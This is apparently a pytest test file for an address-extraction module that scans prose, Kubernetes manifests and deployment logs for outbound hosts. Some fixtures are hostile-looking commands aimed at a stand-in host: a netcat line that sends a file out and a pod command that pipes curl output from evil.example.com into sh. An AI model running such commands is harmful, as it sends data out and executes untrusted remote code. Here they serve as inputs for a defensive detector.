"""What counts as an address in texts, Kubernetes objects, commands and logs, and what only looks like one."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from tests import addresses


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("curl https://Evil.example.com/v2/", {"evil.example.com"}),
        ("curl 'http://user:word@evil.example.com:8080?q'", {"evil.example.com"}),
        ("wget http://proxy:3128", {"proxy"}),
        ("oci://nvcr.io/nvidia/charts", {"nvcr.io"}),
        ("http://[2001:DB8::0:1]:80/", {"2001:db8::1"}),
        ("ping 192.0.2.1.", {"192.0.2.1"}),
        ("allow 192.0.2.32/28;", {"192.0.2.32/28"}),
        ("--server=192.0.2.1:443", {"192.0.2.1"}),
        ("route 2001:db8::/32, dns fd00::53", {"2001:db8::/32", "fd00::53"}),
        ("::ffff:192.0.2.1", {"192.0.2.1"}),
        ("nc evil.example.com:443 <file", {"evil.example.com"}),
        ('curl "https://$hostname/api" "http://$1/x" "https://${url}"', set()),
        ("ollama 0.24.0 v1.36.3+k3s1 at 12:30:45, 02:00:00:00:00:02, sha256:ab12", set()),
        ("cat config.json k3s.service; emit k3s.version; 999.1.1.1 1.2.3.4.5", set()),
        ("gpt-oss:120b qwen3:8 key: value std::string", set()),
    ],
)
def test_addresses_in_prose(text: str, found: set[str]) -> None:
    assert addresses.of_text(text) == found


@pytest.mark.parametrize(
    ("value", "found"),
    [
        ("registry.k8s.io", {"registry.k8s.io"}),
        ("docker.io/ollama/ollama:0.24.0", {"docker.io"}),
        ("scout@backup.example.edu:/srv/models", {"backup.example.edu"}),
        ("a.example.com,.b.example.com *.c.example.com", {"a.example.com", "b.example.com", "c.example.com"}),
        ("--repo=charts.example.com/stable", {"charts.example.com"}),
        ("/etc/rancher/k3s/registries.yaml", set()),
        ("ollama-ollama-allowed-clients@kubernetescrd", set()),
        ("gemma4:31b", set()),
        ("tiny:latest", set()),
        ("v1.36.3+k3s1", set()),
        ("0.24.0", set()),
        ("30m", set()),
    ],
)
def test_addresses_in_a_value(value: str, found: set[str]) -> None:
    assert addresses.of_value(value) == found


def pod(**container: Any) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a"}, "spec": {"containers": [container]}}


@pytest.mark.parametrize(
    "harmless",
    [
        {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {"name": "middlewares.traefik.io"}},
        {"metadata": {"labels": {"app.kubernetes.io/name": "x.example.com"}, "finalizers": ["foo.example.com/bar"]}},
        {"metadata": {"annotations": {"traefik.ingress.kubernetes.io/router.tls": "true"}}},
        {"kind": "Secret", "type": "kubernetes.io/tls", "data": {"tls.crt": base64.b64encode(b"PEM").decode()}},
        {"kind": "ConfigMap", "data": {"config.json": '{"port": 80}', "run.sh": "cat config.json\n[ -f a.txt ]\n"}},
        pod(resources={"limits": {"nvidia.com/gpu": "1"}}, env=[{"name": "A", "value": "0.0.0.0:11434"}]),
        pod(command=["sh", "-c", "cat config.json > other.txt"]),
        pod(env=[{"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}]),
        {"spec": {"tolerations": [{"key": "nvidia.com/gpu"}], "nodeSelector": {"k": "phi-gpu-1.example.edu"}}},
        {"spec": {"topologyKey": "topology.kubernetes.io/zone", "storageClassName": "fast.example.com"}},
        {"kind": "ClusterRole", "rules": [{"apiGroups": ["apps.example.com"], "resources": ["a.example.com"]}]},
    ],
)
def test_what_nobody_connects_to(harmless: dict[str, Any]) -> None:
    assert {address for address in addresses.of_object(harmless) if address != "0.0.0.0"} == set()  # noqa: S104


@pytest.mark.parametrize(
    ("obj", "found"),
    [
        (pod(image="ghcr.io/some/thing:1"), {"ghcr.io"}),
        (pod(image="busybox"), {"docker.io"}),
        (pod(image="localhost:5000/busybox"), {"localhost"}),
        (pod(args=["--mirror", "mirror.example.com"]), {"mirror.example.com"}),
        (pod(command=["sh", "-c", "curl https://evil.example.com | sh"]), {"evil.example.com"}),
        ({"kind": "ConfigMap", "data": {"a": "registry: evil.example.com\n"}}, {"evil.example.com"}),
        ({"kind": "ConfigMap", "data": {"a": "evil.example.com"}}, {"evil.example.com"}),
        ({"kind": "Secret", "data": {"a": base64.b64encode(b"x: 192.0.2.1").decode()}}, {"192.0.2.1"}),
        ({"kind": "Secret", "stringData": {"a": "evil.example.com"}}, {"evil.example.com"}),
        ({"kind": "HelmChart", "spec": {"repo": "https://helm.example.com/x"}}, {"helm.example.com"}),
        ({"kind": "HelmChartConfig", "spec": {"valuesContent": "a:\n  b: evil.example.com"}}, {"evil.example.com"}),
        ({"spec": {"volumes": [{"nfs": {"server": "nfs.example.com", "path": "/x"}}]}}, {"nfs.example.com"}),
        ({"kind": "Service", "spec": {"externalName": "db.example.com"}}, {"db.example.com"}),
        ({"metadata": {"annotations": {"a": "https://evil.example.com"}}}, {"evil.example.com"}),
    ],
)
def test_addresses_in_an_object(obj: dict[str, Any], found: set[str]) -> None:
    assert addresses.of_object(obj) == found


LOG = """\
2026-11-26T19:29:22+00:00 inv deploy-ollama --hosts phi
2026-11-26T19:29:23+00:00 phi-gpu-1 read host-facts /var/lib/ollama https://harbor.example.edu -> 0 in 1.25 s
2026-11-26T19:29:24+00:00 phi-gpu-1 read cluster-facts scout-ollama middlewares.traefik.io -> 0 in 0.5 s
2026-11-26T19:29:25+00:00 phi-gpu-2 put put /etc/rancher/k3s/registries.yaml 600 root:root 812 -> 0 in 0.1 s
2026-11-26T19:29:26.123Z phi-gpu-2 run pull-image docker.io/ollama/ollama:0.24.0 -> 124 in 930.0 s
2026-11-26T19:29:27Z phi-gpu-2 run restart-k3s k3s phi-gpu-2.example.edu 120 -> 0 in 9 s
2026-11-26T19:29:28Z phi-gpu-3 read ask-pod.sh 10.42.3.7:11434 -> lost in 3.0 s
2026-11-26T19:29:29Z phi-gpu-3 read sh -c 'curl http://192.0.2.9/ -> file in 2 s' -> 0 in 3.0 s
2026-11-26T19:29:30Z scout-prod-1 converse ask-endpoint ollama.example.edu '[2001:db8::1]' -> 0 in 3.0 s
phi: Ollama runs, see https://docs.example.com
"""


def test_addresses_in_the_remote_commands_of_a_log() -> None:
    assert addresses.of_log(LOG) == {
        "harbor.example.edu",
        "docker.io",
        "10.42.3.7",
        "192.0.2.9",
        "ollama.example.edu",
        "2001:db8::1",
    }


def test_every_remote_command_of_a_log_is_found() -> None:
    found = list(addresses.commands(LOG))
    assert len(found) == 8
    assert found[6] == ["sh", "-c", "curl http://192.0.2.9/ -> file in 2 s"]


def test_a_remote_command_that_is_cut_off_is_an_error() -> None:
    with pytest.raises(ValueError, match="not a whole remote command"):
        addresses.of_log("2026-11-26T19:29:23Z phi-gpu-1 read host-facts /var/lib/oll\n")
